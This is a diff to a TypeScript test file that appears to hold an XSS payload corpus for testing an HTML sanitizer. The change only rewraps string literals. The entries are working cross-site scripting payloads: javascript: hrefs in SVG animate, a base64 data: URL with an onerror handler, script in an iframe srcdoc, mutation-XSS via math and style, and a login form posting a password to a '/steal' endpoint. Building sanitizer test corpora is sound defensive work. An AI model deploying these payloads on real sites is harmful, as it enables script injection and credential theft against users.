@@ -25,16 +25,24 @@ export const XSS_CORPUS: Array<{ name: string; html: string }> = [
   },
   {
     name: "svg animate href to javascript:",
-    html: `<svg><a><animate attributeName="href" values="javascript:alert('XSS-animate-href')"/><text x="20" y="20">click</text></a></svg>`,
+    html:
+      `<svg><a><animate attributeName="href" values="javascript:alert('XSS-animate-href')"/><text x="20" ` +
+      `y="20">click</text></a></svg>`,
   },
   {
     name: "svg use data: URL",
-    html: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoIlhTUy11c2UiKScvPjwvc3ZnPg==#x"/></svg>`,
+    html:
+      `<svg><use href="data:image/svg+xml;base64,` +
+      `PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2Ug` +
+      `aHJlZj0nMScgb25lcnJvcj0nYWxlcnQoIlhTUy11c2UiKScvPjwvc3ZnPg==` +
+      `#x"/></svg>`,
   },
   { name: "svg script", html: `<svg><script>console.log('XSS-svg-script')</script></svg>` },
   {
     name: "svg feImage",
-    html: `<svg><filter id="f"><feImage href="${T}/feimage.png"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>`,
+    html:
+      `<svg><filter id="f"><feImage href="${T}/feimage.png"/></filter><rect filter="url(#f)" width="10" ` +
+      `height="10"/></svg>`,
   },
   {
     name: "style @import and url()",
@@ -70,7 +78,9 @@ export const XSS_CORPUS: Array<{ name: string; html: string }> = [
   { name: "base href", html: `<base href="${T}/"><a href="relative-link">relative link</a>` },
   {
     name: "form",
-    html: `<form action="${T}/steal" method="post"><input name="password" type="password"><button formaction="${T}/steal2">Log in</button></form>`,
+    html:
+      `<form action="${T}/steal" method="post"><input name="password" type="password"><button ` +
+      `formaction="${T}/steal2">Log in</button></form>`,
   },
   { name: "iframe", html: `<iframe src="${T}/frame" srcdoc="<script>alert('XSS-srcdoc')</script>"></iframe>` },
   { name: "object and embed", html: `<object data="${T}/object.swf"></object><embed src="${T}/embed.swf">` },
@@ -88,7 +98,9 @@ export const XSS_CORPUS: Array<{ name: string; html: string }> = [
   },
   {
     name: "mXSS through math and style",
-    html: `<math><mtext><table><mglyph><style><img src=x onerror="alert('XSS-mxss')"></style></mglyph></table></mtext></math>`,
+    html:
+      `<math><mtext><table><mglyph><style><img src=x ` +
+      `onerror="alert('XSS-mxss')"></style></mglyph></table></mtext></math>`,
   },
   {
     name: "mXSS through noscript",
